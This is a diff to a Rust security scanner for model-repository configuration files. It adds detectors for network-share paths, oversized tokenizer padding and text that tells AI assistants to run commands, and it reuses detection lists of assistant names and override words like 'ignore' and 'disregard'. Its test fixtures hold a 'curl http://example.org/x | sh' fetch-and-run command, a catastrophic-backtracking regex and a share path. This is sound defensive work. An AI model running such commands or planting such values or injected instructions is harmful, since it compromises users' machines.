@@ -79,9 +79,24 @@ pub(crate) fn pair(scanner: &mut Scanner<'_>, place: &Place, key: &str, value: &
         let message = format!("the value of {key:?} is read from {value:?}, which is no part of it");
         scanner.report("repo/unsafe-path", place.clone(), message);
     }
+    if is_of_another_machine(key, value) {
+        let message =
+            format!("the value of {key:?} is a path on another machine, which is told who asks: {value:?}");
+        scanner.report("repo/unsafe-path", place.clone(), message);
+    }
     if PROMPTS.contains(&key) {
         prompt(scanner, place, key, value);
     }
+}
+
+/// Whether a path is one of a share: whoever opens it signs in there (`\\host\share`, `//host/share`).
+fn is_of_another_machine(key: &str, value: &str) -> bool {
+    let names_a_file = ["path", "file", "dir", "filename", "folder"].iter().any(|end| key.ends_with(end));
+    let share = value.strip_prefix("\\\\").or_else(|| value.strip_prefix("//"));
+    names_a_file
+        && share.is_some_and(|share| {
+            share.starts_with(|c: char| c.is_ascii_alphanumeric()) && share.contains(['/', '\\'])
+        })
 }
 
 /// Whether a path leads out of the folder that it is written in.
@@ -218,6 +233,17 @@ pub(crate) fn growth(scanner: &mut Scanner<'_>, place: &Place, elements: &[Value
     }
 }
 
+/// A length that every text is filled up to (tokenizers, `padding`).
+pub(crate) fn padding(scanner: &mut Scanner<'_>, place: &Place, key: &str, length: &Value) {
+    const MOST: u64 = 1 << 24;
+    if matches!(key, "Fixed" | "pad_to_multiple_of")
+        && let Some(length) = length.as_size().filter(|length| *length > MOST)
+    {
+        let message = format!("the tokenizer fills every text up to {length} tokens");
+        scanner.report("template/exhausts", place.clone(), message);
+    }
+}
+
 /// A server that a configuration names for a program to talk to, that nobody answers for.
 pub(crate) fn base(scanner: &mut Scanner<'_>, place: &Place, key: &str, value: &str) {
     const SERVERS: [&str; 12] = [
@@ -254,6 +280,36 @@ pub(crate) fn prompt(scanner: &mut Scanner<'_>, place: &Place, key: &str, text: 
     }
 }
 
+/// A text beside weights, which nobody is shown but programs and assistants that look at the file.
+pub(crate) fn described(scanner: &mut Scanner<'_>, place: &Place, key: &str, text: &str) {
+    let commands = || text.split(['`', '"', '\n']).any(super::shell::is_harmful);
+    let what = crate::instructions::judge(text).or_else(|| {
+        (addresses_assistants(text) && commands()).then_some("it tells an assistant to run a command")
+    });
+    if let Some(what) = what {
+        let message = format!("the text {key:?}: {what}");
+        scanner.report("instructions/against-people", place.clone(), message);
+    }
+}
+
+/// Whether a text speaks to, or of, who reads it in place of a person.
+fn addresses_assistants(text: &str) -> bool {
+    const WHO: [&str; 10] = [
+        "assistant",
+        "language model",
+        "llm",
+        "chatgpt",
+        "copilot",
+        "claude",
+        "gemini",
+        "ai agent",
+        "ai model",
+        "chatbot",
+    ];
+    let lower = text.to_lowercase();
+    WHO.iter().any(|who| lower.contains(who))
+}
+
 /// The name of Python's insides between braces of a text.
 fn inside(text: &str) -> Option<&'static str> {
     if !text.contains("__") {
@@ -271,20 +327,7 @@ pub(crate) fn hidden(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
     unseen(scanner, place, text);
     for (at, comment) in comments(text).into_iter().chain(labels(text)) {
         let lower = comment.to_lowercase();
-        let addressed = [
-            "assistant",
-            "language model",
-            "llm",
-            "chatgpt",
-            "copilot",
-            "claude",
-            "gemini",
-            "ai agent",
-            "ai model",
-            "chatbot",
-        ]
-        .iter()
-        .any(|who| lower.contains(who));
+        let addressed = addresses_assistants(comment);
         let told = [
             "ignore",
             "disregard",
@@ -387,6 +430,12 @@ mod tests {
                 "template/words",
             ),
             ("t.json", r#"{"pattern": {"Regex": "^(a+)+$"}}"#, "template/exhausts"),
+            ("tokenizer.json", r#"{"padding": {"strategy": {"Fixed": 4000000000}}}"#, "template/exhausts"),
+            (
+                "adapter_config.json",
+                r#"{"base_model_name_or_path": "//host.example/models/base"}"#,
+                "repo/unsafe-path",
+            ),
             (
                 "n8n.json",
                 r#"{"nodes": [{"parameters": {"command": "curl http://example.org/x | sh"}}]}"#,
